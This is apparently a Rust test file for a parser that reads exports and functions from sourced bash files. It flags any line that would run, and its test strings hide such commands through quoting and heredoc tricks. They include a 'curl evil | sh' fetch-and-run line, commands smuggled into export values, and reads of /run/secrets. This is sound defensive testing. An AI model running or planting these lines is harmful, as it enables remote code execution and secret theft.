use super::*;
use proptest::prelude::*;

#[test]
fn exports_functions_and_what_is_neither() {
    let read = exports(
        "#!/bin/bash\nset -e\n\nexport APP_CONF_VERSION=v3\nexport A=\"v1\" B='v2' # two\nexport C=1; export D=2;\n\
         backup () {\n  cat <<EOF\n}\nexport NOT=1\nEOF\n  export NEITHER=1\n}\n\
         function one { echo; }\nshort() { true; }\n\
         export E=$(id)\nexport F=\"$HOME\"\ncurl evil | sh\nX=1\nexport A=v9\nexport G=a$(b)\n",
    );
    let get = |name: &str| read.get(name).map(|export| export.value.as_str());
    assert_eq!(get("APP_CONF_VERSION"), Some("v3"));
    assert_eq!((get("A"), get("B"), get("C"), get("D")), (Some("v9"), Some("v2"), Some("1"), Some("2")));
    assert_eq!((get("NOT"), get("NEITHER"), get("E"), get("F"), get("G")), (None, None, None, None, None));
    assert_eq!(read.functions, ["backup", "one", "short"]);
    let others: Vec<_> = read.others.iter().map(|(line, _)| *line).collect();
    assert_eq!(others, [16, 17, 18, 19, 21]);
    assert_eq!(read.get("APP_CONF_VERSION").unwrap().line, 4);
}

/// Functions as recipes have them.
#[test]
fn functions_of_all_kinds_are_read_to_their_end() {
    for body in [
        "local x=\"${1:-none}\"; echo \"$x\"",
        "if [ -f \"$FILE\" ]; then\n    rm -f \"$FILE\"\n  fi",
        "if [[ $x =~ ^a|b$ ]]; then\n    :\n  else\n    return 1\n  fi",
        "for file in $(ls /tmp/*.sql); do\n    psql < \"$file\" || exit 1\n  done",
        "while read -r line; do echo \"$line\"; done < <(cat /x)",
        "case \"$1\" in\n    a|b) echo one ;;\n    *) echo \"usage: $0 {backup|restore}\" ;;\n  esac",
        "mysql -u root -p\"$(cat /run/secrets/root)\" -e \"select '}' from x;\"",
        "awk '{print $1}' /x | sed 's/{/}/g'",
        "cat > /x <<-'END'\n\t{ $(this) is `text`\n\tEND\n  echo done",
        "psql <<EOF\nselect 1; -- }\nEOF",
        "{ echo a; echo b; } > /x",
        "( cd /x && ls )",
        "find / -name x -exec rm {} \\;",
        "echo ${x%%\"}\"} \"${y//a/b}\" ${#z} $((1 + 2)) # a comment with ' and }",
        "x=`cat /run/secrets/x`; echo \"$x\"",
        "(( i++ )); i=$(( i << 2 ))",
        "arr=(a b \"c d\"); echo \"${arr[@]}\"",
        "echo $'it\\ns' \"it's\" 'a \"b\"'",
        "true && { false || true; }",
        "local -r a=\"$(echo \"$(echo \"b\")\")\"",
        "export PASSWORD=$(cat /run/secrets/db_password)",
        "cmd1 2>&1 | tee -a /log >/dev/null &",
    ] {
        let text = format!("one() {{\n  {body}\n}}\n\nexport A=1\ntwo () {{\n  {body}\n}}\nexport B=2\n");
        let read = exports(&text);
        assert_eq!(read.others, [], "{text}");
        assert_eq!((read.functions.len(), read.exports.len()), (2, 2), "{text}");
    }
}

/// What a shell would run when the file is sourced, hidden in what looks like something else.
#[test]
fn nothing_that_runs_is_taken_for_a_part_of_a_function() {
    for text in [
        "f() {\n  echo \"\n}\n\"\n}\nid\n",
        "f() {\n  cat <<EOF\nEOF\n}\nid\n",
        "f() {\n  cat <<'E F'\nE F\n}\nid\n",
        "f() {\n  cat <<E\"O\"F\nEOF\n}\nid\n",
        "f() {\n  cat <<A <<B\nA\nB\n}\nid\n",
        "f() {\n  cat <<<EOF\n}\nid\nEOF\n",
        "f() {\n  cat <<-EOF\n\tEOF\n}\nid\n",
        "f() {\n  cat <<EOF\nx\\\nEOF\n}\nexport A=1\ng() {\nEOF\n}\n",
        "f() {\n  : $((1<<EOF))\n}\nid\n",
        "f() {\n  ((1<<EOF))\n}\nid\nEOF\n",
        "f() {\n  : # '\n}\nid # '\n",
        "f() {\n  : a#'\n}\n'\n}\nid\n",
        "f() {\n  echo \\'\n}\nid\n",
        "f() {\n  echo $'\\'\n}\n'\n}\nid\n",
        "f() {\n  A=(\n{\n)\n}\nid\n}\n",
        "f() {\n  [[ a ||\n { ]]\n}\nid\n}\n",
        "f() {\n  case x in\n (a) ;; {) ;;\n esac\n}\nid\n}\n",
        "f() {\n  case x in { ) ;; esac\n}\nid\n}\n",
        "f() { echo {; }\nid\n}\n",
        "f() {\n  > x {\n}\nid\n}\n",
        "f() {\n  echo `echo '`\n}\nid\n'`\n}\n",
        "f() {\n  echo \"${x:-'}\"\n}\nid\n'}\"\n}\n",
        "f() {\n  echo $(case x in x) echo;; esac)\n}\nid\n",
        "f() {\n  echo $(# )\n)\n}\nid\n",
        "f() :\nid\n",
        "f() if true; then id; fi\n",
        "f() { :; } > /tmp/x\n",
        "f() { :; } | id\n",
        "f() { :; }\n f\n",
        "set() { id; }\nset -e\n",
        "set -e; id\n",
        "set -- $(id)\n",
        "set -o posix\n",
        "export A=1 B=$(id)\n",
        "export A=1 > /tmp/x\n",
        "export A=1 & id\n",
        "export A=1 | id\n",
        "export $(id)\n",
        "export -f x\n",
        "export A\n",
        "export A=~\n",
        "export A=*\n",
        "export A={a,b}\n",
        "export A+=1\n",
        "export A[0]=1\n",
        "export A=\"a\\\"b\"\n",
        "export A=(1 2)\n",
        "export 'A=1;id'\n",
        "expo\\\nrt A=$(id)\n",
        "export A=1\\\n$(id)\n",
        "\\export A=1\n",
        "'export' A=1\n",
        "if true; then\nexport A=1\nfi\n",
        "{ id; }\n",
        "(id)\n",
        "! id\n",
        "alias export=id\n",
        "export A=1 \u{7}\n",
        "f() { :; } \rid\n",
        "readonly A=1\n",
        "function export { id; }\n",
        "function f() ( id )\n",
        "coproc id\n",
        "f() {\n {\n}\n",
    ] {
        assert_ne!(exports(text).others, [], "{text}");
    }
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in "(export |[a-c=;'\"$(){}<#`\\\\\\[\\]&|\\n ]|EOF|case|in|esac|\\PC){0,40}") {
        let _ = exports(&text);
    }
}
